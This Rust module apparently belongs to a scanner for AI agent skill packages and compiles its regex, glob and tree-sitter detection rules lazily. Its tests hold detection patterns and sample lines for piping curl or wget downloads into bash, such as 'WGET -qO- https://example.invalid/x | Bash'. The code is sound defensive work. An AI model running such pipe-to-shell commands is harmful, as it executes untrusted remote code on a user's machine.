//! Patterns are checked when a pack loads but compiled only when a file first needs them. Start-up then
//! costs what parsing the packs costs, and a package with no TypeScript never builds a TypeScript query.

use crate::ascii_classes::{self, ascii_classes};
use crate::branches;
use crate::embedded::{
    precomputed, precomputed_branches, precomputed_need, CHECKED_REGEXES, QUERY_LITERALS,
};
use crate::literals::{query_literals, top_level_patterns, Requirement};
use crate::query_roots::root_kinds;
use crate::relax::relaxed_copy;
use crate::required_literals::{flat_met_by, Need, FOLDS_TO_ASCII};
use crate::syntax::Grammar;
use globset::{Glob, GlobSet, GlobSetBuilder};
use regex_automata::hybrid::dfa::{Cache, DFA};
use regex_automata::meta::Regex;
use regex_automata::nfa::thompson::{self, WhichCaptures};
use regex_automata::util::syntax;
use regex_automata::Input;
use regex_syntax::ast::{self, Ast};
use regex_syntax::hir::translate::TranslatorBuilder;
use std::collections::HashMap;
use std::sync::{Arc, Mutex, OnceLock, PoisonError};
use tree_sitter::Query;

const REGEX_SIZE_LIMIT: usize = 8 * 1024 * 1024;

/// A regex searched over bytes. Patterns compile in ASCII mode (much cheaper to build, and the rules
/// match ASCII syntax: commands, paths, API names); a pattern with a non-ASCII literal keeps ASCII
/// classes (see [`ascii_classes`]); one that needs Unicode classes gets them.
/// Rules only ask where a match is, never for its groups, so groups are not compiled into the automaton:
/// that alone makes building one about a third cheaper, which is most of a small scan's cost.
pub struct LazyRegex {
    pub source: String,
    compiled: OnceLock<Option<Regex>>,
    /// A forward-only lazy DFA that only answers "is there a match?": a third of the cost to build,
    /// and on most small files a candidate rule's regex does not match at all.
    detector: OnceLock<Option<Box<Detector>>>,
    /// The same for the pattern with its large repetition bounds dropped ([`crate::relax`]), asked first: much
    /// cheaper to build, and when it finds nothing the exact detector is never built. `None` inside when
    /// the pattern has no such bound.
    relaxed: OnceLock<Option<Box<Detector>>>,
    /// The literals every match needs, nested all/any ([`Need`]), asked before any detector is built:
    /// the prefilter's literal sets are flat and capped, so a file often holds them and still lacks a
    /// word the pattern cannot match without.
    needs: OnceLock<Option<Need>>,
    /// Detectors of some of the pattern's top-level branches, for texts that hold the literals of only
    /// those ([`LazyRegex::pruned_for`]).
    pruned: Mutex<Vec<Arc<Pruned>>>,
}

/// Sets of branches one pattern builds detectors for before it builds the whole pattern's instead (a
/// package's many small files may each want other branches).
const MAX_PRUNED: usize = 4;

/// The detectors of a split pattern's branches in `kept` (bit `i` for branch `i`), asked as the whole
/// pattern's are: relaxed first, then exact.
struct Pruned {
    source: String,
    kept: u64,
    /// The whole pattern needs Unicode mode, so its branches are built in it too.
    unicode: bool,
    relaxed: OnceLock<Option<Box<Detector>>>,
    exact: OnceLock<Option<Box<Detector>>>,
}

impl Pruned {
    fn may_match(&self, haystack: &[u8]) -> bool {
        let mut parsed = Parsed::in_mode(self.unicode);
        let relaxed = self
            .relaxed
            .get_or_init(|| parsed.relaxed_detector(&self.source))
            .as_deref();
        if relaxed.is_some_and(|relaxed| !relaxed.may_match(haystack)) {
            return false;
        }
        self.exact
            .get_or_init(|| parsed.detector(&self.source))
            .as_ref()
            .is_none_or(|exact| exact.may_match(haystack))
    }
}

/// `haystack` lower-cased for the literal checks, or `None` when that cannot speak for it (not UTF-8, or
/// it holds a letter that folds to ASCII in Unicode mode).
pub(crate) fn lowered(haystack: &[u8]) -> Option<String> {
    match std::str::from_utf8(haystack) {
        Ok(text) if !text.contains(FOLDS_TO_ASCII) => Some(text.to_ascii_lowercase()),
        _ => None,
    }
}

/// The detector's DFA and its caches, kept between searches: a lazy DFA builds its states as it
/// searches, and a fresh cache per file would build them all again.
pub(crate) struct Detector {
    dfa: DFA,
    caches: Mutex<Vec<Cache>>,
}

impl Detector {
    /// Whether the pattern may match `haystack`: `false` only when it surely does not.
    pub(crate) fn may_match(&self, haystack: &[u8]) -> bool {
        let caches = || self.caches.lock().unwrap_or_else(PoisonError::into_inner);
        let mut cache = caches().pop().unwrap_or_else(|| self.dfa.create_cache());
        // A search the lazy DFA gives up on (a Unicode word boundary next to non-ASCII text) is a
        // "maybe": the full regex decides.
        let found = self
            .dfa
            .try_search_fwd(&mut cache, &Input::new(haystack).earliest(true))
            .map_or(true, |found| found.is_some());
        caches().push(cache);
        found
    }
}

/// Memory one detector cache may hold before it is cleared (texts it checks are small).
const DETECTOR_CACHE_BYTES: usize = 256 * 1024;

/// Texts up to this size ask the detector first; longer ones go straight to the full regex, whose
/// literal-skipping search is faster than the detector's byte-at-a-time walk.
pub(crate) const DETECT_MAX_BYTES: usize = 64 * 1024;

impl LazyRegex {
    /// Checks the pattern's syntax now (unless `build.rs` already did, for an embedded pattern); compiles
    /// it on first use.
    pub fn new(source: String) -> Result<LazyRegex, String> {
        if precomputed(CHECKED_REGEXES, &source).is_none() {
            regex_syntax::ParserBuilder::new()
                .build()
                .parse(&source)
                .map_err(|e| e.to_string())?;
        }
        Ok(LazyRegex {
            source,
            compiled: OnceLock::new(),
            detector: OnceLock::new(),
            relaxed: OnceLock::new(),
            needs: OnceLock::new(),
            pruned: Mutex::default(),
        })
    }

    pub fn get(&self) -> Option<&Regex> {
        self.compiled.get_or_init(|| compile(&self.source)).as_ref()
    }

    /// Whether the regex may match `haystack`: `false` only when it surely does not. Small texts are
    /// checked by the detector, so a regex that never matches is never fully built. (The scan asks
    /// [`LazyRegex::may_match_lowered`] with its segment's lower-cased text.)
    #[cfg(test)]
    pub(crate) fn may_match(&self, haystack: &[u8]) -> bool {
        let lower = std::cell::OnceCell::new();
        self.may_match_lowered(haystack, || {
            lower.get_or_init(|| lowered(haystack)).as_deref()
        })
    }

    /// As [`LazyRegex::may_match`], with `lower` giving the haystack as [`lowered`] makes it (a segment
    /// keeps it for all its rules).
    pub(crate) fn may_match_lowered<'l>(
        &self,
        haystack: &[u8],
        lower: impl Fn() -> Option<&'l str>,
    ) -> bool {
        if haystack.len() > DETECT_MAX_BYTES {
            return true;
        }
        if !self.literals_present(&lower) {
            return false;
        }
        if let Some(pruned) = lower().and_then(|lower| self.pruned_for(lower)) {
            return pruned.may_match(haystack);
        }
        // The first time, the pattern is parsed once for both detectors (see `Parsed`).
        let mut parsed = Parsed::default();
        let relaxed = self
            .relaxed
            .get_or_init(|| parsed.relaxed_detector(&self.source))
            .as_deref();
        if relaxed.is_some_and(|relaxed| !relaxed.may_match(haystack)) {
            return false;
        }
        self.detector
            .get_or_init(|| parsed.detector(&self.source))
            .as_ref()
            .is_none_or(|detector| detector.may_match(haystack))
    }

    /// Whether the text (`lower`: it lower-cased, `None` when that cannot speak for it) holds the literals
    /// a match needs (or may match anyway: the pattern has no such literals, or the text holds a letter
    /// that folds to ASCII in Unicode mode).
    fn literals_present<'l>(&self, lower: impl FnOnce() -> Option<&'l str>) -> bool {
        // An embedded rule's formula was worked out by `build.rs` (parsing a long `(?i)` pattern here
        // costs more than the detectors it saves); a user pack's is worked out once, now.
        let embedded = precomputed_need(&self.source);
        if matches!(embedded, Some(None)) {
            return true;
        }
        let own = match embedded {
            Some(_) => None,
            None => match self.needs.get_or_init(|| Need::of(&self.source)) {
                Some(need) => Some(need),
                None => return true,
            },
        };
        let Some(lower) = lower() else {
            return true;
        };
        match (embedded, own) {
            (Some(Some(nodes)), _) => flat_met_by(nodes, lower),
            (_, Some(need)) => need.met_by(lower),
            _ => true,
        }
    }

    /// The detectors of only the branches whose literals `lower` holds ([`crate::branches`]), when the
    /// pattern was split and some branch can be left out: one already built for a set of branches that
    /// holds these, else new ones (up to [`MAX_PRUNED`] sets, as long as they add up to less than the
    /// whole pattern; past that, and once the whole pattern's exact detector exists, the whole pattern
    /// answers).
    fn pruned_for(&self, lower: &str) -> Option<Arc<Pruned>> {
        let (flags, unicode, branches) = precomputed_branches(&self.source)?;
        let all = u64::MAX >> (64 - branches.len());
        let kept = branches
            .iter()
            .enumerate()
            .filter(|(_, (_, need))| need.is_none_or(|nodes| flat_met_by(nodes, lower)))
            .fold(0u64, |kept, (index, _)| kept | 1 << index);
        if kept == all {
            return None;
        }
        let mut known = self.pruned.lock().unwrap_or_else(PoisonError::into_inner);
        if let Some(pruned) = known.iter().find(|p| p.kept & kept == kept) {
            return Some(Arc::clone(pruned));
        }
        let texts: Vec<&str> = branches.iter().map(|(text, _)| *text).collect();
        let source = branches::joined(flags, &texts, kept);
        // Building costs about what the pattern is long: the sets built stay within one whole pattern's
        // length, so a package whose files each want other branches costs at most twice what it did.
        let built: usize = known.iter().map(|p| p.source.len()).sum();
        if known.len() >= MAX_PRUNED
            || built + source.len() > self.source.len()
            || self.detector.get().is_some()
        {
            return None;
        }
        let pruned = Arc::new(Pruned {
            source,
            kept,
            unicode,
            relaxed: OnceLock::new(),
            exact: OnceLock::new(),
        });
        known.push(Arc::clone(&pruned));
        Some(pruned)
    }

    /// Builds what searching a text of `len` bytes will need first (see [`LazyRegex::may_match`]);
    /// `lower` is the largest text lower-cased, when known: a text without the pattern's literals needs
    /// nothing built, and a split pattern builds the branches the text holds.
    pub(crate) fn prepare(&self, len: usize, lower: Option<&str>) {
        // Building ahead pays only when other threads share it; alone, the first search builds what
        // its text needs, after the literal check that may make it build nothing.
        if rayon::current_num_threads() <= 1 {
            return;
        }
        if len > DETECT_MAX_BYTES {
            self.get();
            return;
        }
        if let Some(lower) = lower {
            if !self.literals_present(|| Some(lower)) {
                return;
            }
            if let Some(pruned) = self.pruned_for(lower) {
                let mut parsed = Parsed::in_mode(pruned.unicode);
                let relaxed = pruned
                    .relaxed
                    .get_or_init(|| parsed.relaxed_detector(&pruned.source));
                if relaxed.is_none() {
                    pruned.exact.get_or_init(|| parsed.detector(&pruned.source));
                }
                return;
            }
        }
        let mut parsed = Parsed::default();
        let relaxed = self
            .relaxed
            .get_or_init(|| parsed.relaxed_detector(&self.source));
        if relaxed.is_none() {
            self.detector.get_or_init(|| parsed.detector(&self.source));
        }
    }

    /// Compiles now; used to validate user packs and in tests.
    pub fn force(&self) -> Result<(), String> {
        match self.get() {
            Some(_) => Ok(()),
            None => Err(format!(
                "regex {:?} does not compile (too large?)",
                self.source
            )),
        }
    }
}

fn compile(source: &str) -> Option<Regex> {
    let build = |pattern: &str, unicode: bool| {
        Regex::builder()
            .configure(
                Regex::config()
                    .which_captures(WhichCaptures::Implicit)
                    .nfa_size_limit(Some(REGEX_SIZE_LIMIT)),
            )
            .syntax(syntax::Config::new().unicode(unicode).utf8(unicode))
            .build(pattern)
            .ok()
    };
    in_cheapest_mode(source, build)
}

pub(crate) fn detector(source: &str) -> Option<Box<Detector>> {
    let build = |pattern: &str, unicode: bool| {
        DFA::builder()
            .configure(DFA::config().cache_capacity(DETECTOR_CACHE_BYTES))
            .syntax(syntax::Config::new().unicode(unicode).utf8(unicode))
            .thompson(detector_nfa_config())
            .build(pattern)
            .ok()
            .map(Detector::boxed)
    };
    in_cheapest_mode(source, build)
}

/// A detector built from `ast` (the syntax tree of `source`, or of `source` relaxed) in the modes
/// [`in_cheapest_mode`] tries on a pattern's text: ASCII; else Unicode with ASCII Perl classes; else
/// Unicode. The same automaton as building the printed tree, without printing and parsing it again.
/// `unicode_only` leaves out ASCII mode: the branches of a pattern that needs Unicode mode are built in
/// the mode the whole pattern is.
fn detector_of_ast(source: &str, ast: &Ast, unicode_only: bool) -> Option<Box<Detector>> {
    let build = |ast: &Ast, unicode: bool| {
        let hir = TranslatorBuilder::new()
            .unicode(unicode)
            .utf8(unicode)
            .build()
            .translate(source, ast)
            .ok()?;
        let nfa = thompson::Compiler::new()
            .configure(detector_nfa_config())
            .build_from_hir(&hir)
            .ok()?;
        DFA::builder()
            .configure(DFA::config().cache_capacity(DETECTOR_CACHE_BYTES))
            .build_from_nfa(nfa)
            .ok()
            .map(Detector::boxed)
    };
    (!unicode_only)
        .then(|| build(ast, false))
        .flatten()
        .or_else(|| {
            let mut ascii = ast.clone();
            ascii_classes::rewrite(&mut ascii);
            build(&ascii, true)
        })
        .or_else(|| build(ast, true))
}

/// A pattern's syntax tree, parsed for its relaxed detector and kept for its exact one. On a small
/// text whose literals are present, the relaxed detector is built first and, unless it rules the text
/// out, the exact one right after (at once when the pattern has no large bound); parsing a long
/// pattern was about a third of building each, so it is parsed once for both. Kept only within one
/// check: a pattern the relaxed detector ruled out keeps no tree. `unicode_only`: see
/// [`detector_of_ast`].
#[derive(Default)]
pub(crate) struct Parsed {
    ast: Option<Ast>,
    unicode_only: bool,
}

impl Parsed {
    /// For the branches of a split pattern that needs Unicode mode (`unicode_only`) or not.
    fn in_mode(unicode_only: bool) -> Parsed {
        Parsed {
            ast: None,
            unicode_only,
        }
    }

    /// The detector of `source` relaxed ([`crate::relax`]), or `None` when it has no large bound
    /// (or does not parse); keeps the pattern's own tree.
    pub(crate) fn relaxed_detector(&mut self, source: &str) -> Option<Box<Detector>> {
        let ast = ast::parse::Parser::new().parse(source).ok()?;
        let relaxed = relaxed_copy(&ast);
        self.ast = Some(ast);
        detector_of_ast(source, &relaxed?, self.unicode_only)
    }

    /// As [`detector`], from the kept tree when there is one.
    pub(crate) fn detector(&mut self, source: &str) -> Option<Box<Detector>> {
        match self.ast.take() {
            Some(ast) => detector_of_ast(source, &ast, self.unicode_only),
            None if self.unicode_only => {
                let ast = ast::parse::Parser::new().parse(source).ok()?;
                detector_of_ast(source, &ast, true)
            }
            None => detector(source),
        }
    }
}

fn detector_nfa_config() -> thompson::Config {
    thompson::Config::new()
        .which_captures(WhichCaptures::None)
        .nfa_size_limit(Some(REGEX_SIZE_LIMIT))
}

impl Detector {
    fn boxed(dfa: DFA) -> Box<Detector> {
        Box::new(Detector {
            dfa,
            caches: Mutex::default(),
        })
    }
}

/// Builds `source` with `build` in ASCII mode if it can be; else, for a pattern that needs Unicode mode
/// only for a non-ASCII literal, in Unicode mode with ASCII Perl classes (a fifth of the build cost);
/// else in full Unicode mode.
fn in_cheapest_mode<T>(source: &str, build: impl Fn(&str, bool) -> Option<T>) -> Option<T> {
    build(source, false)
        .or_else(|| ascii_classes(source).and_then(|rewritten| build(&rewritten, true)))
        .or_else(|| build(source, true))
}

/// A rule's path globs: checked when the pack loads, built into one matcher (which compiles a regex) only
/// when a file the rule could match first asks.
pub struct LazyGlobs {
    /// Globs of the two common shapes, matched without building anything.
    simple: Vec<SimpleGlob>,
    /// The rest, built into one set on first need.
    globs: Vec<Glob>,
    /// The literal each of the rest ends with (`.txt` for `**/requirements*.txt`), when all have one: a
    /// path that ends with none of them needs no set built.
    tails: Option<Vec<String>>,
    compiled: OnceLock<Option<GlobSet>>,
}

/// `**/NAME`, `**/*SUFFIX` and `**/DIR/**`: building a glob set compiles a regex, which cost a small
/// scan more than everything else a rule with paths does.
enum SimpleGlob {
    /// `**/NAME`: the path is NAME or ends in `/NAME`.
    Name(String),
    /// `**/*SUFFIX`: the path ends in SUFFIX (`*` crosses `/`, as in a glob set).
    Suffix(String),
    /// `**/DIR/**`: the path has DIR as a folder (`DIR/` at its start or `/DIR/` inside it).
    Within(String),
    /// A glob without wildcards (`build.rs`, `.git/config`): the path is exactly it.
    Exact(String),
}

impl SimpleGlob {
    /// The simple globs `glob` is, or `None`. One brace group of plain words (`**/hooks/{pre-commit,
    /// post-merge}`) is a glob per word.
    fn parse_all(glob: &str) -> Option<Vec<SimpleGlob>> {
        let Some(open) = glob.find('{') else {
            return SimpleGlob::parse(glob).map(|simple| vec![simple]);
        };
        let close = open + glob[open..].find('}')?;
        let (head, words, tail) = (&glob[..open], &glob[open + 1..close], &glob[close + 1..]);
        if words.contains(',') && !words.contains(['*', '?', '[', ']', '{', '\\']) {
            words
                .split(',')
                .map(|word| SimpleGlob::parse(&format!("{head}{word}{tail}")))
                .collect()
        } else {
            None
        }
    }

    fn parse(glob: &str) -> Option<SimpleGlob> {
        let plain =
            |text: &str| !text.is_empty() && !text.contains(['*', '?', '[', ']', '{', '}', '\\']);
        let Some(rest) = glob.strip_prefix("**/") else {
            return plain(glob).then(|| SimpleGlob::Exact(glob.to_string()));
        };
        if let Some(dir) = rest.strip_suffix("/**").filter(|dir| plain(dir)) {
            return Some(SimpleGlob::Within(dir.to_string()));
        }
        match rest.strip_prefix('*') {
            Some(suffix) if plain(suffix) => Some(SimpleGlob::Suffix(suffix.to_string())),
            None if plain(rest) => Some(SimpleGlob::Name(rest.to_string())),
            _ => None,
        }
    }

    fn is_match(&self, path: &str) -> bool {
        match self {
            SimpleGlob::Name(name) => {
                path == name
                    || path
                        .strip_suffix(name.as_str())
                        .is_some_and(|head| head.ends_with('/'))
            }
            SimpleGlob::Suffix(suffix) => path.ends_with(suffix.as_str()),
            SimpleGlob::Exact(whole) => path == whole,
            SimpleGlob::Within(dir) => {
                let at_start = path
                    .strip_prefix(dir.as_str())
                    .is_some_and(|rest| rest.starts_with('/'));
                at_start
                    || path.match_indices(dir.as_str()).any(|(at, _)| {
                        path[..at].ends_with('/') && path[at + dir.len()..].starts_with('/')
                    })
            }
        }
    }
}

impl LazyGlobs {
    /// Parses every glob now; the error names the first that does not parse.
    pub fn new(sources: &[String]) -> Result<LazyGlobs, String> {
        let mut simple = Vec::new();
        let mut globs = Vec::new();
        for source in sources {
            // A glob of plain characters around `**/`, `/**` or a leading `*` always parses: parsing it
            // here as well cost a small skill's start-up 1 %. A brace group is still checked.
            if let Some(fast) = SimpleGlob::parse(source) {
                simple.push(fast);
                continue;
            }
            let glob = Glob::new(source).map_err(|e| format!("bad path glob {source:?}: {e}"))?;
            match SimpleGlob::parse_all(source) {
                Some(fast) => simple.extend(fast),
                None => globs.push(glob),
            }
        }
        let tails = globs
            .iter()
            .map(|glob| {
                let text = glob.glob();
                let start = text
                    .rfind(['*', '?', '[', ']', '{', '}', '\\'])
                    .map_or(0, |at| at + 1);
                (start > 0 && start < text.len()).then(|| text[start..].to_string())
            })
            .collect();
        Ok(LazyGlobs {
            simple,
            globs,
            tails,
            compiled: OnceLock::new(),
        })
    }

    /// Whether `path` matches one of the globs. A set that fails to build (globs that each parse
    /// always build) matches nothing, so the rule is skipped rather than run everywhere.
    pub fn is_match(&self, path: &str) -> bool {
        if self.simple.iter().any(|glob| glob.is_match(path)) {
            return true;
        }
        let no_tail = |tails: &Vec<String>| !tails.iter().any(|t| path.ends_with(t.as_str()));
        if self.globs.is_empty() || self.tails.as_ref().is_some_and(no_tail) {
            return false;
        }
        self.compiled
            .get_or_init(|| {
                let mut builder = GlobSetBuilder::new();
                for glob in &self.globs {
                    builder.add(glob.clone());
                }
                builder.build().ok()
            })
            .as_ref()
            .is_some_and(|set| set.is_match(path))
    }
}

/// A tree-sitter query, compiled per grammar on first use. The first grammar is the query's own language;
/// the others (TypeScript for a JavaScript query) are a bonus and may not compile.
///
/// Building a query costs a millisecond or more per pattern (tree-sitter checks each against the whole
/// grammar), far more than running it on a small file. So a query is built from only the top-level
/// patterns whose predicate literals the text holds: a file with `regex.exec(s)` gets the rule's
/// `exec(…)` pattern, not its `child_process.execSync` ones. Each set of patterns is built once per run
/// and shared; a file still walks its tree once per rule.
pub struct LazyQuery {
    pub source: String,
    pub capture: Option<String>,
    pub grammars: &'static [Grammar],
    parts: Vec<QueryPart>,
    /// The capture a match reports (see [`LazyQuery::reported_capture`]), worked out once.
    reported: Option<String>,
    /// Per grammar: the queries built so far, by the set of parts (a bit per part) they hold.
    built: Vec<Mutex<HashMap<u64, Arc<Built>>>>,
}

/// A query built from some of a rule's patterns, and the index of the capture it reports (`None`: those
/// patterns lack it, so they report nothing).
type Built = OnceLock<Option<(Query, Option<u32>)>>;

/// One top-level pattern of a query.
struct QueryPart {
    source: String,
    /// The literals the text must hold for this pattern to match (worked out on first need).
    needs: OnceLock<Option<Requirement>>,
    /// The node kinds its matches start at ([`crate::query_roots`]), worked out on first need.
    roots: OnceLock<Option<Vec<String>>>,
}

/// A built query, shared with the rule that owns it.
pub(crate) struct BuiltQuery(Arc<Built>);

impl BuiltQuery {
    /// The query and the capture to report, if it built and has that capture.
    pub(crate) fn get(&self) -> Option<(&Query, u32)> {
        let (query, capture) = self.0.get()?.as_ref()?;
        Some((query, (*capture)?))
    }
}

/// Segments over this size skip the per-pattern literal check (they run every pattern; the combined
/// query usually answers them anyway).
pub(crate) const PART_CHECK_MAX_BYTES: usize = 256 * 1024;

impl LazyQuery {
    pub fn new(source: String, capture: Option<String>, grammars: &'static [Grammar]) -> LazyQuery {
        let mut patterns = top_level_patterns(&source);
        if patterns.len() > 64 || !covers_whole_query(&source, &patterns) {
            // Something the splitter does not understand (or too many to track): build it whole.
            patterns = vec![source.as_str()];
        }
        let parts = patterns
            .into_iter()
            .map(|part| QueryPart {
                source: part.to_string(),
                needs: OnceLock::new(),
                roots: OnceLock::new(),
            })
            .collect();
        LazyQuery {
            built: grammars.iter().map(|_| Mutex::default()).collect(),
            reported: reported_capture(&source, capture.as_deref()),
            source,
            capture,
            grammars,
            parts,
        }
    }

    /// The name of the capture a match reports: the one the rule names, else `@hit`, else the query's
    /// first capture.
    pub(crate) fn reported_capture(&self) -> Option<&str> {
        self.reported.as_deref()
    }

    /// The query to run in `grammar` on a text whose lower-cased form is `lowered` (`None`: unchecked,
    /// every pattern): the patterns whose literals it holds, built on first need; `None` when no
    /// pattern can match or the query does not run in that grammar.
    pub(crate) fn query_for(&self, grammar: Grammar, lowered: Option<&str>) -> Option<BuiltQuery> {
        let slot = self.grammars.iter().position(|g| *g == grammar)?;
        let mask = self.parts_needed(lowered);
        if mask == 0 {
            return None;
        }
        let (mask, cell) = {
            let mut built = self.built[slot]
                .lock()
                .unwrap_or_else(PoisonError::into_inner);
            // Patterns whose literals the text lacks cannot match it, so a query holding more patterns
            // than needed gives the same hits: reuse the smallest one built that holds them all. Else
            // build what is needed plus everything built before, so later files find it too and the
            // builds grow towards the whole query instead of repeating patterns in new combinations.
            let superset = built
                .iter()
                .filter(|(held, _)| **held & mask == mask)
                .min_by_key(|(held, _)| held.count_ones())
                .map(|(held, cell)| (*held, cell.clone()));
            superset.unwrap_or_else(|| {
                let union = built.keys().fold(mask, |all, held| all | held);
                (union, built.entry(union).or_default().clone())
            })
        };
        cell.get_or_init(|| {
            let source: Vec<&str> = self
                .parts
                .iter()
                .enumerate()
                .filter(|(i, _)| mask & (1 << i) != 0)
                .map(|(_, part)| part.source.as_str())
                .collect();
            let query = Query::new(&grammar.ts_language(), &source.join("\n")).ok()?;
            let capture = self
                .reported_capture()
                .and_then(|name| query.capture_index_for_name(name));
            Some((query, capture))
        });
        Some(BuiltQuery(cell))
    }

    /// How many top-level patterns (parts) the query was split into.
    pub(crate) fn part_count(&self) -> usize {
        self.parts.len()
    }

    /// The source of part `index`.
    pub(crate) fn part_source(&self, index: usize) -> &str {
        &self.parts[index].source
    }

    /// The literal sets part `index` needs (`None`: it may match without any), worked out on first need.
    pub(crate) fn part_needs(&self, index: usize) -> Option<&Requirement> {
        self.parts[index]
            .needs
            .get_or_init(|| part_literals(&self.parts[index].source))
            .as_ref()
    }

    /// The node kinds a match of part `index` starts at (`None`: not known by name).
    pub(crate) fn part_roots(&self, index: usize) -> Option<&[String]> {
        let part = &self.parts[index];
        part.roots
            .get_or_init(|| root_kinds(&part.source))
            .as_deref()
    }

    /// A bit per part that can match the lower-cased text (every part when it was not checked).
    fn parts_needed(&self, lowered: Option<&str>) -> u64 {
        let all = u64::MAX >> (64 - self.parts.len());
        let Some(lowered) = lowered.filter(|_| self.parts.len() > 1) else {
            return all;
        };
        let mut mask = 0;
        for (i, part) in self.parts.iter().enumerate() {
            let needs = part.needs.get_or_init(|| part_literals(&part.source));
            let met = needs.as_ref().is_none_or(|sets| {
                sets.iter()
                    .all(|set| set.iter().any(|l| lowered.contains(l.as_str())))
            });
            if met {
                mask |= 1 << i;
            }
        }
        mask
    }

    /// Compiles the whole query for each of its grammars now, reporting what is wrong with it in its
    /// own grammar.
    pub fn force(&self) -> Result<(), String> {
        let primary = *self.grammars.first().ok_or("query has no grammar")?;
        let query = Query::new(&primary.ts_language(), &self.source)
            .map_err(|e| format!("bad query: {e}"))?;
        if query.capture_names().is_empty() {
            return Err("query needs a capture, e.g. @hit".into());
        }
        if let Some(wanted) = &self.capture {
            if query.capture_index_for_name(wanted).is_none() {
                return Err(format!("query has no capture @{wanted}"));
            }
        }
        for grammar in self.grammars {
            self.query_for(*grammar, None);
        }
        Ok(())
    }
}

/// The literal sets a query pattern's predicates need: worked out by `build.rs` for the embedded packs'
/// patterns, now for a user pack's.
fn part_literals(source: &str) -> Option<Requirement> {
    match precomputed(QUERY_LITERALS, source) {
        Some(known) => known.map(|sets| {
            sets.iter()
                .map(|set| set.iter().map(|l| l.to_string()).collect())
                .collect()
        }),
        None => query_literals(source),
    }
}

/// The rule's named capture, else `@hit` when the query has it, else its first capture.
fn reported_capture(source: &str, named: Option<&str>) -> Option<String> {
    if let Some(name) = named {
        return Some(name.to_string());
    }
    if source.contains("@hit") {
        return Some("hit".to_string());
    }
    let at = source.find('@')?;
    Some(
        source[at + 1..]
            .chars()
            .take_while(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))
            .collect(),
    )
}

/// Whether `parts` (slices of `source`, in order) leave out nothing but whitespace and comments.
fn covers_whole_query(source: &str, parts: &[&str]) -> bool {
    let mut rest_start = 0;
    let mut gaps = Vec::new();
    for part in parts {
        let offset = part.as_ptr() as usize - source.as_ptr() as usize;
        gaps.push(&source[rest_start..offset]);
        rest_start = offset + part.len();
    }
    gaps.push(&source[rest_start..]);
    !parts.is_empty()
        && gaps.iter().all(|gap| {
            gap.lines()
                .all(|line| line.trim().is_empty() || line.trim_start().starts_with(';'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syntax_errors_surface_at_load_compilation_waits() {
        assert!(LazyRegex::new("(unclosed".into()).is_err());
        let lazy = LazyRegex::new(r"(?i)\bcurl\b".into()).unwrap();
        assert!(lazy.compiled.get().is_none());
        assert!(lazy.get().unwrap().is_match(b"CURL x"));
    }

    #[test]
    fn the_detector_answers_for_small_texts_and_never_says_no_wrongly() {
        let lazy = LazyRegex::new(r"(?m)(?i)\bcurl\b[^\n|]*\|\s*(ba)?sh\b".into()).unwrap();
        assert!(!lazy.may_match(b"no download here"));
        assert!(
            lazy.compiled.get().is_none(),
            "a text without a match never builds the regex"
        );
        assert!(lazy.may_match(b"x\nCURL -s https://x | bash\n"));
        let big = format!("{}curl x | sh", "a".repeat(DETECT_MAX_BYTES));
        assert!(
            lazy.may_match(big.as_bytes()),
            "large texts are left to the full regex"
        );
        let quoted = LazyRegex::new(r#"(?i)(?:^|[^"“\w])never\s+tell\b"#.into()).unwrap();
        assert!(quoted.may_match("so never tell".as_bytes()));
        assert!(!quoted.may_match("“never tell".as_bytes()));
        let unicode = LazyRegex::new(r"\p{Greek}+\B".into()).unwrap();
        assert!(unicode.may_match("αβγ".as_bytes()));
    }

    #[test]
    fn a_text_without_a_needed_word_builds_no_detector() {
        // The prefilter's flat sets would let `curl … | bash` through on `curl` alone; `bash`/`sh` is
        // needed too, and `wget` is not.
        let lazy = LazyRegex::new(r"(?m)(?i)\b(curl|wget)\b[^\n|]{0,200}\|\s*(bash|zsh)\b".into())
            .unwrap();
        assert!(!lazy.may_match(b"curl -O https://example.invalid/x.tgz | tar x"));
        assert!(lazy.relaxed.get().is_none() && lazy.detector.get().is_none());
        assert!(lazy.may_match(b"WGET -qO- https://example.invalid/x | Bash"));
        assert!(
            !lazy.may_match(b"wget x | tar; then bash y.sh"),
            "the detector decides"
        );
        // `(?i)s` matches the long s in Unicode mode, so a text holding it is not judged by literals.
        let folded = LazyRegex::new(r"(?i)\bpass\b".into()).unwrap();
        let long_s = lowered("paſs".as_bytes());
        assert!(long_s.is_none());
        assert!(folded.literals_present(|| long_s.as_deref()));
        assert!(!folded.literals_present(|| Some("pa ss")));
    }

    /// A split rule regex answers every corpus skill's text as its whole detector does, while building
    /// detectors of only the branches the text holds words of.
    #[test]
    fn split_patterns_answer_as_the_whole_pattern() {
        use crate::embedded::REGEX_BRANCHES;
        let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../corpus");
        let mut texts = Vec::new();
        for kind in ["malicious/skill", "benign/skill"] {
            let mut dirs: Vec<_> = std::fs::read_dir(format!("{root}/{kind}"))
                .unwrap()
                .map(|entry| entry.unwrap().path().join("SKILL.md"))
                .collect();
            dirs.sort();
            texts.extend(dirs.iter().filter_map(|path| std::fs::read(path).ok()));
        }
        assert!(texts.len() > 100);
        let (mut pruned, mut matched) = (0, 0);
        for (source, ..) in REGEX_BRANCHES {
            let whole = detector(source);
            let regex = compile(source).unwrap();
            for text in texts.iter().filter(|text| text.len() <= DETECT_MAX_BYTES) {
                let lazy = LazyRegex::new(source.to_string()).unwrap();
                let got = lazy.may_match(text);
                // Every match is found; the only answer that may differ from the whole detector's is a
                // "no" where the whole one could not tell (too large to build, or a Unicode `\B` next to
                // a non-ASCII letter in a branch the text cannot match).
                assert!(got || !regex.is_match(text), "{source}");
                let whole = whole.as_ref().is_none_or(|whole| whole.may_match(text));
                assert!(got == whole || !got, "{source}");
                pruned += usize::from(!lazy.pruned.lock().unwrap().is_empty());
                matched += usize::from(regex.is_match(text));
            }
        }
        assert!(
            pruned > 100 && matched > 20,
            "{pruned} pruned, {matched} matched"
        );
    }

    #[test]
    fn unicode_patterns_still_compile() {
        let lazy = LazyRegex::new(r"[\x{E0000}-\x{E007F}]".into()).unwrap();
        assert!(lazy.get().unwrap().is_match("tag\u{E0041}".as_bytes()));
        let quoted = LazyRegex::new(r#"(?i)(?:^|[^"“\w])never\s+tell\b"#.into()).unwrap();
        let quoted = quoted.get().unwrap();
        assert!(quoted.is_match("so never tell".as_bytes()));
        assert!(!quoted.is_match("“never tell".as_bytes()));
        assert!(!quoted.is_match("whenever tell".as_bytes()));
        let letters = LazyRegex::new(r"\p{Greek}+\s".into()).unwrap();
